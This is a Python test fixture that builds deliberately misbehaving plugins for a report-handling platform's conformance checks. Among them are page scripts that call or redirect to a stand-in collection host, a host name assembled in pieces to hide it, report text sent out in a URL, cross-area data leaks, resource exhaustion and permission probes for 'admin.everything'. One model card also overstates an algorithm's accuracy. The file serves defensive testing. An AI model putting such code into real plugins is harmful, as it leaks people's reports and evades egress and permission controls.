"""Small plugins that pass for honest until they run: what each does, and the row of the matrix that has to tell."""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.sdk.rulepack.malicious import ASKED, HOOKS, Malicious
from tests.sdk.rulepack.zips import METADATA
from wangge_registry.trials.model import Kind, RowVerdict

HEAD = '''"""Looks at reports."""

from wangge_sdk.broker.calls import HttpFetch
from wangge_sdk.hooks import hookimpl
from wangge_sdk.hooks.handlers import serves
from wangge_sdk.platform import RefusedError
from wangge_sdk.views import CaseClosed, HookContext, Problem, ReportView, RouteAnswer, RouteRequest
'''
VALIDATE = "\n\n@hookimpl\ndef validate_report(ctx: HookContext, request: ReportView):\n"
SERVE = "\n\n@serves\ndef find(ctx: HookContext, request: RouteRequest):\n"
REPORTS = {"required": [{"scope": "reports:read", "fields": ["text"], "reason": {"zh-CN": "看上报的文字", "en": "It looks at the words"}}]}
HOST = {
    "host": "api.lamps.example",
    "purpose": "api",
    "operation": "compute",
    "data_classes": ["public"],
    "reason": {"zh-CN": "查询路灯", "en": "It looks lamps up"},
}
ROUTE = {
    "method": "GET",
    "path": "/find",
    "handler": "find",
    "public": True,
    "input": "schemas/find.json",
    "output": "schemas/found.json",
}
SCHEMAS = {
    "acme_lamps/schemas/find.json": json.dumps(
        {"type": "object", "additionalProperties": False, "properties": {"words": {"type": "string", "maxLength": 200}}}
    ).encode(),
    "acme_lamps/schemas/found.json": json.dumps(
        {
            "type": "object",
            "additionalProperties": False,
            "required": ["found"],
            "properties": {"found": {"type": "array", "items": {"type": "string"}}},
        }
    ).encode(),
}


@dataclass(frozen=True)
class Misbehaving:
    """A plugin with the row that tells of it."""

    name: str
    kind: Kind
    row: str
    verdict: RowVerdict
    validate: str = "return ()"
    serve: str = ""
    before: str = ""
    egress: tuple[Mapping[str, Any], ...] = ()
    more: str = ""
    permissions: Mapping[str, Any] = field(default_factory=lambda: REPORTS)
    limits: Mapping[str, Any] = field(default_factory=dict)
    contributes: Mapping[str, Any] = field(default_factory=dict)
    files: Mapping[str, bytes] = field(default_factory=dict)

    def wheel(self) -> tuple[str, bytes]:
        """Return name and bytes of its wheel."""
        code = HEAD + self.before + VALIDATE + _indented(self.validate)
        contributes: dict[str, Any] = {"hooks": [{"hook": "validate_report.v1"}]}
        if self.serve:
            code += SERVE + _indented(self.serve)
            contributes["routes"] = [ROUTE]
        contributes |= self.contributes
        manifest = {
            "contributes": contributes,
            "permissions": self.permissions,
            "egress": list(self.egress),
            "runtime": {"isolation": "worker", "module": "acme_lamps.hooks", "limits": dict(self.limits)},
        }
        files = {HOOKS: (code + self.more).encode()} | (SCHEMAS if self.serve else {}) | dict(self.files)
        made = Malicious(self.name, (), files=files, manifest=manifest)
        return made.file_name, made.wheel()


def _indented(body: str) -> str:
    return "".join(f"    {line}\n" if line else "\n" for line in body.strip("\n").split("\n"))


FETCH = "ctx.platform.http.fetch(HttpFetch(url={url}))"


def fetching(url: str) -> str:
    """Code that asks the outside and takes no for an answer."""
    return f"try:\n    {FETCH.format(url=url)}\nexcept RefusedError:\n    pass\nreturn ()"


BOARD = {"id": "board", "title": {"zh-CN": "看板", "en": "Board"}, "render": "frame", "source": "ui/board.js"}


def framed(name: str, script: str) -> Misbehaving:
    """A plugin that is told by what its page does."""
    begun = "const app = document.getElementById('app');\napp.append(document.createElement('p'));\n"
    return Misbehaving(
        name,
        Kind.SCREEN,
        "page board",
        RowVerdict.FAULTY,
        contributes={"ui": {"pages": [BOARD]}},
        files={"acme_lamps/ui/board.js": (begun + script).encode()},
    )


URGENCY = {
    "id": "urgency",
    "title": {"zh-CN": "紧急程度", "en": "Urgency"},
    "task": "rank",
    "handler": "urgency",
    "input": "schemas/question.json",
    "output": "schemas/answer.json",
    "decision_role": "suggest",
    "test_set": {"path": "test-set.json", "answer": "/urgency"},
    "model_card": {
        "data": {"name": "Invented", "licence": "Apache-2.0", "period": "2026", "places": ["none"]},
        "metrics": [{"name": "right answers", "measure": "accuracy", "value": 0.9, "dataset": "ten invented reports"}],
        "fairness": [{"group": "short", "subset": "short", "metric": "right answers", "measure": "accuracy", "value": 0.5, "gap": 0.0}],
        "limits": {"zh-CN": "编造的", "en": "It is invented"},
        "human_oversight": {"zh-CN": "派遣员复核", "en": "A dispatcher looks"},
    },
}
WEIGHING = """

from wangge_sdk.hooks.handlers import advises
from wangge_sdk.views import AlgorithmAnswer, AlgorithmQuery


@advises
def urgency(request: AlgorithmQuery):
    return AlgorithmAnswer(output={"urgency": 1}, reason={"zh-CN": "总是", "en": "Always"}, confidence=1.0)
"""
"""It always gives the same answer, which is right in half of the cases."""
BOASTING = {
    "acme_lamps/schemas/question.json": json.dumps(
        {
            "type": "object",
            "additionalProperties": False,
            "required": ["text"],
            "properties": {"text": {"type": "string", "maxLength": 200}},
        }
    ).encode(),
    "acme_lamps/schemas/answer.json": json.dumps(
        {"type": "object", "additionalProperties": False, "required": ["urgency"], "properties": {"urgency": {"type": "integer"}}}
    ).encode(),
    "acme_lamps/test-set.json": json.dumps(
        [{"input": {"text": f"report {number}"}, "expected": number % 2, "group": "short"} for number in range(10)]
    ).encode(),
}

PLUGINS: tuple[Misbehaving, ...] = (
    framed("asks the outside from its page", "fetch('https://collect.elsewhere.example/').catch(() => undefined);\n"),
    framed("leaves its frame for another place", "location.href = 'https://collect.elsewhere.example/';\n"),
    framed("has a page that some cannot use", "app.append(document.createElement('button'), new Image());\n"),
    framed("has a page that breaks", "throw new Error('broken');\n"),
    Misbehaving(
        "claims more of its algorithm than it does",
        Kind.FIGURE,
        "urgency: right answers",
        RowVerdict.FAULTY,
        more=WEIGHING,
        contributes={"algorithms": [URGENCY]},
        files=BOASTING,
    ),
    Misbehaving(
        "has a hook that it does not list",
        Kind.HOOK,
        "suggest_class.v1",
        RowVerdict.UNDECLARED,
        more="\n\n@hookimpl\ndef suggest_class(ctx: HookContext, request: ReportView):\n    return ()\n",
    ),
    Misbehaving(
        "answers on its route what it does not declare",
        Kind.ROUTE,
        "GET /find",
        RowVerdict.FAULTY,
        serve='return RouteAnswer(output={"found": [], "who": "everybody"})',
    ),
    Misbehaving(
        "asks a host whose name it puts together",
        Kind.HOST,
        "collect.elsewhere.example",
        RowVerdict.UNDECLARED,
        validate=fetching("'https://' + '.'.join(['collect', 'elsewhere', 'example']) + '/'"),
        egress=(HOST,),
    ),
    Misbehaving(
        "follows a declared host to another",
        Kind.HOST,
        "elsewhere.trial.example",
        RowVerdict.UNDECLARED,
        validate=(
            "try:\n"
            "    answer = ctx.platform.http.fetch(HttpFetch(url='https://api.lamps.example/'))\n"
            "    if 'location' in answer.headers:\n"
            "        ctx.platform.http.fetch(HttpFetch(url=answer.headers['location']))\n"
            "except RefusedError:\n"
            "    pass\n"
            "return ()"
        ),
        egress=(HOST,),
    ),
    Misbehaving(
        "tells a host what people wrote",
        Kind.HOST,
        "api.lamps.example",
        RowVerdict.FAULTY,
        validate=fetching("'https://api.lamps.example/?q=' + request.text"),
        egress=(HOST,),
    ),
    Misbehaving(
        "remembers what was said and shows it to the next",
        Kind.AREA,
        "another area's words",
        RowVerdict.FAULTY,
        before="\nSEEN = ['']\n",
        validate=(
            "before = SEEN[0]\n"
            "SEEN[0] = SEEN[0] or request.text\n"
            "return (Problem(message={'zh-CN': before or '好', 'en': before or 'well'}, code='x', path='text'),)"
        ),
    ),
    Misbehaving(
        "finds on its route what was said next door",
        Kind.AREA,
        "another area's words",
        RowVerdict.FAULTY,
        before="\nSEEN = []\n",
        validate="SEEN.append(request.text)\nreturn ()",
        serve="return RouteAnswer(output={'found': SEEN[:20]})",
    ),
    Misbehaving(
        "takes its time",
        Kind.HOOK,
        "validate_report.v1",
        RowVerdict.FAULTY,
        before="\nimport time\n",
        validate="time.sleep(2)\nreturn ()",
    ),
    Misbehaving(
        "sleeps until the trial is over",
        Kind.HOOK,
        "validate_report.v1",
        RowVerdict.FAULTY,
        before="\nimport time\n",
        validate="time.sleep(600)\nreturn ()",
    ),
    Misbehaving(
        "takes all the memory",
        Kind.HOOK,
        "validate_report.v1",
        RowVerdict.FAULTY,
        before="\nKEPT = []\n",
        validate="while True:\n    KEPT.append(bytearray(8_000_000))",
    ),
    Misbehaving(
        "ends its own process",
        Kind.BUDGET,
        "life",
        RowVerdict.FAULTY,
        before="\nimport os\n",
        validate="os._exit(0)",
    ),
    Misbehaving(
        "goes on asking when its call is over",
        Kind.BUDGET,
        "after the call",
        RowVerdict.FAULTY,
        before="\nimport threading\nimport time\n",
        validate=(
            "def later():\n"
            "    time.sleep(0.2)\n"
            "    try:\n"
            "        ctx.platform.http.fetch(HttpFetch(url='https://api.lamps.example/'))\n"
            "    except RefusedError:\n"
            "        pass\n"
            "threading.Thread(target=later, daemon=True).start()\n"
            "return ()"
        ),
        egress=(HOST,),
    ),
    Misbehaving(
        "tries a socket while it is imported, and says nothing",
        Kind.START,
        "import",
        RowVerdict.FAULTY,
        before="\nimport socket\n\ntry:\n    socket.socket()\nexcept OSError:\n    pass\n",
    ),
    Misbehaving(
        "asks for people that it did not ask for",
        Kind.PERMISSION,
        "people:read",
        RowVerdict.UNDECLARED,
        validate="try:\n    ctx.platform.ask('people.get', id='1')\nexcept RefusedError:\n    pass\nreturn ()",
    ),
    Misbehaving(
        "tries methods that nobody told it of",
        Kind.PERMISSION,
        "admin.everything",
        RowVerdict.UNDECLARED,
        validate="try:\n    ctx.platform.ask('admin.everything')\nexcept RefusedError:\n    pass\nreturn ()",
    ),
    Misbehaving(
        "speaks one language where it has to speak two",
        Kind.CONFORMANCE,
        "test_it_answers_what_it_may[validate_report.v1]",
        RowVerdict.FAULTY,
        validate="return (Problem(message={'zh-CN': '请写清楚', 'en': ' '}, code='short', path='text'),) if len(request.text) > 99 else ()",
    ),
    Misbehaving(
        "falls over when the platform says no",
        Kind.FAULT,
        "refused permissions",
        RowVerdict.FAULTY,
        validate="ctx.platform.http.fetch(HttpFetch(url='https://api.lamps.example/'))\nreturn ()",
        egress=(HOST,),
    ),
)


def locking(lock: str, before: str, validate: str) -> tuple[str, bytes]:
    """Return name and bytes of an honest plugin that brings a library."""
    manifest = {
        "requires": {"lock": "pylock.toml"},
        "contributes": {"hooks": [{"hook": "validate_report.v1"}]},
        "permissions": REPORTS,
        "runtime": {"isolation": "worker", "module": "acme_lamps.hooks", "limits": {}},
    }
    files = {HOOKS: (HEAD + before + VALIDATE + _indented(validate)).encode(), "acme_lamps/pylock.toml": lock.encode()}
    made = Malicious("brings a library", (), files=files, manifest=manifest, metadata=f"{METADATA}Requires-Dist: lampmath\n")
    return made.file_name, made.wheel()


def called(name: str) -> Misbehaving:
    """Return the plugin of this name."""
    return next(plugin for plugin in PLUGINS if plugin.name == name)


FIVE_AT_ONCE = Misbehaving(
    "does five things at once",
    Kind.HOOK,
    "suggest_class.v1",
    RowVerdict.UNDECLARED,
    before="\nSEEN = []\nTURN = []\n",
    validate="SEEN.append(request.text)\n"
    + called("asks a host whose name it puts together").validate.replace("return ()", "")
    + called("asks for people that it did not ask for").validate,
    serve="TURN.append(1)\nreturn RouteAnswer(output={'found': SEEN[:20]} if len(TURN) % 2 else {'who': 'everybody'})",
    egress=(HOST,),
    contributes=called("asks the outside from its page").contributes,
    files=called("asks the outside from its page").files,
)
"""The host, the permission, the words of next door, the answer, the page; and a host that is never asked."""

__all__ = ["ASKED", "FIVE_AT_ONCE", "PLUGINS", "Misbehaving"]
